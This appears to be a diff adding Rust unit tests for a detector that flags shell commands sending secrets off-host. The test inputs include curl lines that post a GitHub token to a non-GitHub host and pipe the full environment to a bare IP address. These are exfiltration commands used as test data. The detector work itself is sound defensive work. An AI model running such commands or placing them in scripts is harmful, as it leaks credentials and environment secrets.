@@ -1950,6 +1950,24 @@ mod tests {
             Lang::Shell,
         );
         assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
+        // The secret is the endpoint: posting to a Slack webhook URL held in the
+        // environment is how that webhook is used.
+        let ok = tags(
+            "WEBHOOK=\"${SLACK_WEBHOOK:?unset}\"\ncurl -sf -X POST \"$WEBHOOK\" -d '{\"text\":\"deployed\"}'",
+            Lang::Shell,
+        );
+        assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
+        // A GitHub token in a header to a host that is not GitHub's is sent away.
+        let t = tags(
+            "curl -s -X POST -d @report.json -H \"Authorization: token $GITHUB_TOKEN\" https://gh-status.example/api",
+            Lang::Shell,
+        );
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let ok = tags(
+            "curl -s -X POST -d @report.json -H \"Authorization: token $GITHUB_TOKEN\" https://api.github.com/user",
+            Lang::Shell,
+        );
+        assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
         let t = tags(
             "env | curl -s -X POST --data-binary @- http://203.0.113.9/e",
             Lang::Shell,
